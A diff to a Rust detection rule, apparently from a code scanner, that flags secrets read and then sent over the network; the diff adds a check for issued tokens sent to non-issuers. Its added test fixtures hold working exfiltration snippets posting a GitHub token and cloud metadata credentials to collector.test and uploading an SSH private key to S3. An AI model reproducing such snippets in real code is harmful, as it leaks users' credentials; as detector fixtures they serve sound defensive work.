@@ -3,7 +3,7 @@
 use std::sync::LazyLock;
 
 use super::source_calls::{SourceFile, carried_out, sends, source_files, text_of, weighed};
-use crate::evidence::source::{Argument, Call, Origins};
+use crate::evidence::source::{Argument, Call, Origins, is_issuer};
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
@@ -14,7 +14,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-credential-read-and-send"
-version = 3
+version = 4
 title = "Secrets are read and something is sent"
 why = "Reading a key file or the whole environment beside a network call is how credentials leave a machine."
 fix = "Read only the variables that are needed, by name; leave key files to the programs that own them."
@@ -65,6 +65,35 @@ const https = require("https");
 const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
 const req = https.request({ hostname: "collector.test", method: "POST" });
 req.write(body); req.end();'''
+[[examples.fires]]
+note = "A token that a program hands out goes to a stranger."
+[examples.fires.files]
+"a.py" = '''
+import subprocess, requests
+token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
+requests.post("https://collector.test/in", data=token)
+'''
+[[examples.fires]]
+note = "What the machine's own service answers is posted."
+[examples.fires.files]
+"a.js" = '''
+const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
+await fetch("https://collector.test/in", { method: "POST", body: await r.text() });'''
+[[examples.fires]]
+note = "A key file is put into a store."
+[examples.fires.files]
+"a.py" = '''
+import boto3, os
+boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "kit", "k")
+'''
+[[examples.silent]]
+note = "A token that goes back to who handed it out."
+[examples.silent.files]
+"a.py" = '''
+import subprocess, requests
+token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
+requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + token})
+'''
 [[examples.silent]]
 note = "One variable by name."
 [examples.silent.files]
@@ -116,6 +145,7 @@ fn report_flows(file: &SourceFile<'_>, facts: &mut FactSink<'_>) -> bool {
         let judged = match (carried.any(Origins::SECRET), carried.any(Origins::ENVIRONMENT)) {
             (true, _) => Severity::Critical,
             (false, true) => Severity::High,
+            (false, false) if carried.any(Origins::ISSUED) && leaves_issuer(file, call) => Severity::High,
             (false, false) => continue,
         };
         found = true;
@@ -123,6 +153,17 @@ fn report_flows(file: &SourceFile<'_>, facts: &mut FactSink<'_>) -> bool {
         facts.found_as(severity, confidence, call.place.clone(), &call.text);
     }
     found
+}
+
+/// Whether a call goes to somebody who did not hand out the token that it carries: by the address in it, else by those
+/// in the file, of which none may be an issuer's.
+fn leaves_issuer(file: &SourceFile<'_>, call: &Call) -> bool {
+    let texts = call.arguments.iter().filter_map(text_of).chain(std::iter::once(call.text.as_str()));
+    let named = texts.filter_map(|text| text.find("http").and_then(|at| text.get(at..))).next();
+    match named {
+        Some(address) => !is_issuer(address),
+        None => !file.view.calls.iter().flat_map(|call| &call.arguments).filter_map(text_of).any(is_issuer),
+    }
 }
 
 /// How far apart, in lines of ordinary length, a read and a send are surely one piece of work.
